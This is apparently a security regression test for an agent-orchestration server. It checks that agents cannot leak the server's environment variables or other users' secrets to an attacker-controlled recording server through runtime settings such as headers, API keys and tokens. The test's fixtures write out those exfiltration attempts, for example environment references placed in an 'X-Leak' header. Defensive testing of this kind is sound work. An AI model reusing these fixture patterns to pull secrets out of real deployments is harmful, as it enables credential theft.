import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { RecordingServer } from "../doubles/recording-server.js";
import { eventually } from "../support/eventually.js";
import { apiRequest, type JsonBody, readJson } from "../support/http.js";
import { freePort } from "../support/ports.js";
import { createTestDatabase, type TestDatabase } from "../support/postgres.js";
import { runSwitchboard, SwitchboardProcess } from "../support/switchboard-process.js";

/**
 * Finding 1 of issue #14: an ordinary person's agent tries to read the server's environment
 * and other people's secrets through every setting of every runtime that takes a
 * reference, and sends what it gets to a server of its owner's. The server records every
 * request; nothing it receives may hold a value the agent was not granted. A secret its
 * owner granted to the agent does reach the runtime call (and nowhere else).
 */

const canaries: Record<string, string> = {
  SESSION_SECRET: `session-secret-${randomBytes(16).toString("hex")}`,
  SECRETS_KEYS: `main:${randomBytes(32).toString("base64")}`,
  MODEL_PROXY_MASTER_KEY: `sk-master-${randomBytes(12).toString("hex")}`,
};
const BOB_VALUE = `bobs-api-key-${randomBytes(8).toString("hex")}`;
const MALLORY_VALUE = `mallorys-own-key-${randomBytes(8).toString("hex")}`;

/** Where each runtime takes a reference, pointed at the attacker's server. */
const RUNTIMES: Record<string, (base: string, reference: object) => Record<string, unknown>> = {
  http: (base, reference) => ({ type: "http", url: base, headers: { "X-Leak": reference } }),
  n8n: (base, reference) => ({
    type: "n8n",
    webhook_url: base,
    auth: { header: "X-Leak", value: reference },
  }),
  a2a: (base, reference) => ({ type: "a2a", url: base, headers: { Authorization: reference } }),
  "claude-managed-agents": (base, reference) => ({
    type: "claude-managed-agents",
    agent: "leaky",
    environment: "leaky",
    api_key: reference,
    base_url: base,
  }),
  databricks: (base, reference) => ({
    type: "databricks",
    workspace_url: base,
    endpoint: "leaky",
    auth: { token: reference },
  }),
  // The access key id travels in the SigV4 Authorization header; the secret key never does.
  "bedrock-agentcore": (base, reference) => ({
    type: "bedrock-agentcore",
    agent_runtime_arn: "arn:aws:bedrock-agentcore:us-east-1:111122223333:runtime/leaky-a1B2c3D4e5",
    region: "us-east-1",
    endpoint: base,
    credentials: { access_key_id: reference, secret_access_key: reference },
    usd_per_second: 0.00003,
  }),
  cursor: (base, reference) => ({
    type: "cursor",
    repository: "https://github.com/mallory/app",
    api_key: reference,
    base_url: base,
    price_per_run_usd: 0,
  }),
  "elastic-agent-builder": (base, reference) => ({
    type: "elastic-agent-builder",
    kibana_url: base,
    agent_id: "leaky",
    api_key: reference,
  }),
};

/** The agent names' short forms of the runtime types. */
const short = (type: string) =>
  type
    .replace("claude-managed-agents", "cma")
    .replace("elastic-agent-builder", "elastic")
    .replace("bedrock-agentcore", "agentcore");

/** A value as it may travel: itself, or as Cursor's Basic credentials (`base64(key:)`). */
const forms = (value: string) => [value, Buffer.from(`${value}:`).toString("base64")];

/** What Mallory's agents refer to; none of it is hers. */
const STOLEN: Record<string, object> = {
  "database-url": { env: "DATABASE_URL" },
  "session-secret": { env: "SESSION_SECRET" },
  "master-keys": { env: "SECRETS_KEYS" },
  "proxy-key": { env: "MODEL_PROXY_MASTER_KEY" },
  unset: { env: "NOT_SET_ANYWHERE" },
  "bobs-secret": { secret: "bobs-key" },
  "no-such-secret": { secret: "no-such-key" },
};

function agentManifest(name: string, owner: string, runtime: Record<string, unknown>) {
  return {
    apiVersion: "switchboard/v1",
    kind: "Agent",
    metadata: { name, title: name, owner },
    spec: { runtime, access: { view: [owner], run: [owner] } },
  };
}

describe("exfiltrating secrets through runtime settings", { timeout: 240_000 }, () => {
  const root = mkdtempSync(join(tmpdir(), "switchboard-exfiltration-"));
  const attacker = { server: undefined as unknown as RecordingServer };
  let pg: TestDatabase;
  let serve: SwitchboardProcess;
  let base: string;
  let env: Record<string, string>;
  const keys: Record<string, string> = {};

  const api = async (who: string, method: string, path: string, body?: unknown) => {
    const response = await apiRequest(base, keys[who] as string, method, path, body);
    return { status: response.status, body: await readJson(response) };
  };

  async function runToEnd(who: string, agent: string): Promise<JsonBody> {
    const started = await api(who, "POST", `/agents/${agent}/runs`, { input: "hello" });
    expect(started.status, JSON.stringify(started.body)).toBe(201);
    return eventually(async () => {
      const { body } = await api(who, "GET", `/runs/${started.body.id}`);
      expect(body.status).toMatch(/succeeded|failed|cancelled/);
      return body;
    }, 60_000);
  }

  const at = (path: string) => `${attacker.server.url}${path}`;

  beforeAll(async () => {
    attacker.server = await RecordingServer.start();
    pg = await createTestDatabase("exfiltration");
    canaries.DATABASE_URL = pg.url;
    // The attacker's server listens on loopback: allowed, so only secret resolution stands
    // between the agents and it.
    env = { ...canaries, LOG_LEVEL: "warn", RUNTIME_EGRESS_ALLOW: "127.0.0.1" };
    // Mallory's agents that refer to what is not hers, stored before the operator narrowed
    // the allowlist (the CLI applies them with every name allowed): the run-time check
    // must hold on its own, not only the check at apply time.
    const stolen = Object.entries(RUNTIMES).flatMap(([type, settings]) =>
      Object.entries(STOLEN).map(([what, reference]) =>
        agentManifest(
          `${short(type)}-${what}`,
          "user:mallory@example.com",
          settings(at(`/${type}/${what}`), reference),
        ),
      ),
    );
    const granted = Object.entries(RUNTIMES).map(([type, settings]) =>
      agentManifest(
        `${short(type)}-granted`,
        "user:mallory@example.com",
        settings(at(`/${type}/granted`), { secret: "mallory-key" }),
      ),
    );
    const bobs = agentManifest(
      "bob-agent",
      "user:bob@example.com",
      RUNTIMES.http?.(at("/http/bob"), { secret: "bobs-key" }) ?? {},
    );
    const file = join(root, "agents.yaml");
    writeFileSync(file, [...stolen, ...granted, bobs].map((m) => stringify(m)).join("---\n"));
    const applied = await runSwitchboard(["agents", "apply", file], {
      ...env,
      RUNTIME_ENV_ALLOWLIST: [...Object.keys(canaries), "NOT_SET_ANYWHERE"].join(","),
    });
    expect(applied.code, applied.stderr).toBe(0);
    for (const who of ["mallory", "bob"]) {
      const created = await runSwitchboard(["keys", "create", "--user", `${who}@example.com`], env);
      expect(created.code, created.stderr).toBe(0);
      keys[who] = created.stdout.trim().split("\n").at(-1) ?? "";
    }
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    serve = new SwitchboardProcess(["serve"], { ...env, PORT: String(port) });
    await serve.waitFor(`${base}/readyz`, 90_000);

    const bobsSecret = await api("bob", "PUT", "/secrets/bobs-key", {
      value: BOB_VALUE,
      owner: "user:bob@example.com",
    });
    expect(bobsSecret.status, JSON.stringify(bobsSecret.body)).toBe(201);
    expect((await api("bob", "POST", "/secrets/bobs-key/grants/bob-agent")).status).toBe(200);
    const mine = await api("mallory", "PUT", "/secrets/mallory-key", {
      value: MALLORY_VALUE,
      owner: "user:mallory@example.com",
    });
    expect(mine.status, JSON.stringify(mine.body)).toBe(201);
    for (const type of Object.keys(RUNTIMES).map(short)) {
      const grant = await api("mallory", "POST", `/secrets/mallory-key/grants/${type}-granted`);
      expect(grant.status, JSON.stringify(grant.body)).toBe(200);
    }
  }, 200_000);

  afterAll(async () => {
    serve?.signal("SIGTERM");
    await serve?.exited;
    await attacker.server?.close();
    await pg?.drop();
    rmSync(root, { recursive: true, force: true });
  });

  it("refuses { env: NAME } outside the allowlist when a manifest is applied, the same whether it is set or not", async () => {
    const refusals: string[] = [];
    for (const name of ["SESSION_SECRET", "NOT_SET_ANYWHERE"]) {
      const manifest = agentManifest(
        "http-granted",
        "user:mallory@example.com",
        RUNTIMES.http?.(at("/http/granted"), { env: name }) ?? {},
      );
      const put = await api("mallory", "PUT", "/agents/http-granted", manifest);
      expect(put.status).toBe(400);
      refusals.push(String(put.body.error.message).replaceAll(name, "NAME"));
    }
    expect(refusals[0]).toMatch(/\{ env: NAME \} is not an environment name the operator allows/);
    expect(refusals[1]).toBe(refusals[0]);
  });

  it("sends nothing of the server's environment or other people's secrets, through any runtime", async () => {
    const names = Object.keys(RUNTIMES).flatMap((type) =>
      Object.keys(STOLEN).map((what) => `${short(type)}-${what}`),
    );
    const runs = await Promise.all(names.map((name) => runToEnd("mallory", name)));
    const byReference = new Map<string, Set<string>>();
    runs.forEach((run, index) => {
      const name = names[index] as string;
      expect(run.status, name).toBe("failed");
      expect(run.error.code, name).toBe("missing_secret");
      const what = name.slice(name.indexOf("-") + 1);
      const reference = Object.entries(STOLEN[what] ?? {})[0] as [string, string];
      const shape = String(run.error.message).replace(
        `{ ${reference[0]}: ${reference[1]} }`,
        "REF",
      );
      byReference.set(shape, (byReference.get(shape) ?? new Set()).add(name));
    });
    // One message for an unset variable, a variable not allowed, a missing secret and another
    // person's secret: the agent's owner learns nothing of what exists.
    expect(byReference.size).toBe(1);
    expect([...byReference.keys()][0]).toMatch(
      /^This agent's settings refer to REF, which is not available/,
    );
    for (const type of Object.keys(RUNTIMES)) {
      for (const what of Object.keys(STOLEN)) {
        expect(attacker.server.requestsTo(`/${type}/${what}`), `${type} ${what}`).toEqual([]);
      }
    }
    const received = attacker.server.everything();
    for (const value of [...Object.values(canaries), BOB_VALUE].flatMap(forms)) {
      expect(received).not.toContain(value);
    }
  });

  it("expands no reference written into a URL", async () => {
    const literal = at("/http/literal/{env:SESSION_SECRET}/$SESSION_SECRET");
    const manifest = agentManifest("http-granted", "user:mallory@example.com", {
      type: "http",
      url: literal,
      headers: { "X-Leak": { secret: "mallory-key" } },
    });
    expect((await api("mallory", "PUT", "/agents/http-granted", manifest)).status).toBe(200);
    const run = await runToEnd("mallory", "http-granted");
    expect(run.status).toBe("succeeded");
    const [request] = attacker.server.requestsTo("/http/literal/");
    expect(decodeURIComponent(request?.url ?? "")).toBe(
      "/http/literal/{env:SESSION_SECRET}/$SESSION_SECRET",
    );
    const refused = await api("mallory", "PUT", "/agents/http-granted", {
      ...manifest,
      spec: { ...manifest.spec, runtime: { type: "http", url: { env: "SESSION_SECRET" } } },
    });
    expect(refused.status).toBe(400);
    expect(attacker.server.everything()).not.toContain(canaries.SESSION_SECRET);
    const restored = agentManifest(
      "http-granted",
      "user:mallory@example.com",
      RUNTIMES.http?.(at("/http/granted"), { secret: "mallory-key" }) ?? {},
    );
    expect((await api("mallory", "PUT", "/agents/http-granted", restored)).status).toBe(200);
  });

  it("lets an agent use the secret its owner granted it, on every runtime, and keeps it out of the run", async () => {
    const runs = await Promise.all(
      Object.keys(RUNTIMES).map((type) => runToEnd("mallory", `${short(type)}-granted`)),
    );
    for (const type of Object.keys(RUNTIMES)) {
      const sent = attacker.server.requestsTo(`/${type}/granted`);
      expect(sent.length, type).toBeGreaterThan(0);
      const [plain, basic] = forms(MALLORY_VALUE);
      expect(JSON.stringify(sent[0]?.headers), type).toContain(type === "cursor" ? basic : plain);
    }
    // The HTTP agent echoed its headers back: the run shows [secret] where the value was.
    const http = runs[0] as JsonBody;
    expect(http.status).toBe("succeeded");
    expect(http.output).toContain("[secret]");
    const shown = JSON.stringify([
      runs,
      await Promise.all(runs.map((run) => api("mallory", "GET", `/sessions/${run.session_id}`))),
    ]);
    for (const value of forms(MALLORY_VALUE)) {
      expect(shown).not.toContain(value);
      expect(serve.stdout + serve.stderr).not.toContain(value);
    }
  });

  it("uses another person's secret only for the agent that person granted it to", async () => {
    const bobs = await runToEnd("bob", "bob-agent");
    expect(bobs.status).toBe("succeeded");
    expect(JSON.stringify(attacker.server.requestsTo("/http/bob")[0]?.headers)).toContain(
      BOB_VALUE,
    );
    const steal = await api("mallory", "POST", "/secrets/bobs-key/grants/http-bobs-secret");
    expect(steal.status).toBe(404);
    expect(
      (await api("mallory", "GET", "/secrets")).body.items.map((s: JsonBody) => s.name),
    ).toEqual(["mallory-key"]);
    const again = await runToEnd("mallory", "http-bobs-secret");
    expect(again.error.code).toBe("missing_secret");
    expect(attacker.server.requestsTo("/http/bobs-secret")).toEqual([]);
  });

  it("stops using a secret at the next runtime call once its grant is revoked", async () => {
    expect((await api("mallory", "DELETE", "/secrets/mallory-key/grants/n8n-granted")).status).toBe(
      200,
    );
    const before = attacker.server.requestsTo("/n8n/granted").length;
    const run = await runToEnd("mallory", "n8n-granted");
    expect(run.error.code).toBe("missing_secret");
    expect(attacker.server.requestsTo("/n8n/granted")).toHaveLength(before);
  });
});
